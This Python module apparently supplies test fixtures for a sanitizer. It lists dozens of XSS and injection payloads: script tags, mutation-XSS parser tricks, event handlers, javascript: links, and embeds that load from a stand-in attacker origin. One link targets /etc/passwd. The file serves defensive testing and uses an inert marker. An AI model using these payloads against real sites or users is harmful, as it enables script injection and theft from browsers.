"""Hostile messages: EVIL stands for the attacker's origin, PWN for code that must not run."""

# ruff: noqa: E501 - a payload is one line

from __future__ import annotations

SCRIPTS = [
    "<script>PWN</script>",
    '<script src="EVIL/s.js"></script>',
    "<ScRiPt>PWN</sCrIpT>",
    "<scr<script>ipt>PWN</scr</script>ipt>",
    "<script\n>PWN</script\n>",
    "<svg><script>PWN</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=PWN&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=PWN>'>",
    "<template><script>PWN</script></template>",
    "<svg></p><style><a id='</style><img src=x onerror=PWN>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=PWN>",
    "<xmp><p title='</xmp><script>PWN</script>'>",
]
HANDLERS = [
    "<img src=x onerror=PWN>",
    "<img src=x onerror='PWN'//",
    "<svg onload=PWN>",
    "<svg/onload=PWN//",
    "<body onload=PWN>",
    "<details open ontoggle=PWN>x</details>",
    "<input autofocus onfocus=PWN>",
    "<select autofocus onfocus=PWN></select>",
    "<video autoplay onloadstart=PWN src='EVIL/v.mp4'></video>",
    "<audio src=x onerror=PWN></audio>",
    "<marquee onstart=PWN>x</marquee>",
    "<div style='animation:x' onanimationstart=PWN><style>@keyframes x{}</style>",
    '<button type="button" class="ac-copy" onclick="PWN" autofocus onfocus="PWN">Copy</button>',
    "<math><mi//xlink:href='data:x,<script>PWN</script>'>",
    '"><img src=x onerror=PWN>',
]
EMBEDS = [
    "<iframe src='javascript:PWN'></iframe>",
    "<iframe srcdoc='<script>parent.PWN</script>'></iframe>",
    "<iframe src='EVIL/frame'></iframe>",
    "<object data='EVIL/o'></object>",
    "<embed src='EVIL/e'>",
    "<link rel=stylesheet href='EVIL/c.css'>",
    "<link rel=prefetch href='EVIL/p'>",
    "<meta http-equiv=refresh content='0;url=EVIL/m'>",
    "<base href='EVIL/'>",
    "<style>@import 'EVIL/i.css'; body{background:url(EVIL/b)}</style>",
    "<p style='background:url(EVIL/p)'>x</p>",
    "<picture><source srcset='EVIL/p.png'><img src='EVIL/q.png'></picture>",
    "<svg><use href='EVIL/u.svg#x'></use><image href='EVIL/i.png'/></svg>",
    "<table background='EVIL/t.png'><tr><td>x</td></tr></table>",
    "<form action='EVIL/f'><input name=q><button>go</button></form>",
]
LINKS = [
    "[x](javascript:PWN)",
    "[x](JaVaScRiPt:PWN)",
    "[x](java\tscript:PWN)",
    "[x](<java\nscript:PWN>)",
    "[x](&#106;avascript:PWN)",
    "[x](javascript&colon;PWN)",
    "[x](\x01javascript:PWN)",
    "[x](data:text/html,<script>PWN</script>)",
    "[x](vbscript:PWN)",
    "[x](blob:EVIL/0)",
    "[x](file:///etc/passwd)",
    "<javascript:PWN>",
    '[x](https://a.example/"onmouseover="PWN)',
    "[x](https://a.example 'a\" onmouseover=\"PWN')",
    "[x]\n\n[x]: javascript:PWN",
    "<a href='javascript:PWN' id=location name=cookie>x</a>",
]
IMAGES = [
    "![x](EVIL/i.png)",
    "![x][r]\n\n[r]: EVIL/r.png",
    "[![x](EVIL/n.png)](EVIL/l)",
    '![x](EVIL/t.png "onerror=PWN")',
    "![x](data:image/svg+xml,<svg onload=PWN>)",
    "![x](javascript:PWN)",
    '![" onerror="PWN](EVIL/a.png)',
    "![x](//EVIL_HOST/p.png)",
]
CODE = [
    "```html\n<script>PWN</script>\n```",
    '```"><img/src=x/onerror=PWN>\nx\n```',
    "``<img src=x onerror=PWN>``",
    "    <img src=x onerror=PWN>\n\n<img src=x onerror=PWN>",
    "| a | b |\n|---|---|\n| <img src=x onerror=PWN> | ![x](EVIL/c.png) |",
    "- [ ] <img src=x onerror=PWN>\n- [x](javascript:PWN)",
    "# <svg onload=PWN>\n\n> <img src=x onerror=PWN>",
    "\u202e<img src=x onerror=PWN>\u202c",
    "<a data-commandlinker-command='x' data-commandlinker-args='{}' id=a name=b>x</a>",
]


def payloads(evil: str) -> list[str]:
    """Return all of them, aimed at the origin `evil`."""
    host = evil.removeprefix("http://")
    every = SCRIPTS + HANDLERS + EMBEDS + LINKS + IMAGES + CODE
    pwn = "window.__pwned=1"
    return [
        each.replace("EVIL_HOST", host).replace("EVIL", evil).replace("PWN", pwn) for each in every
    ]
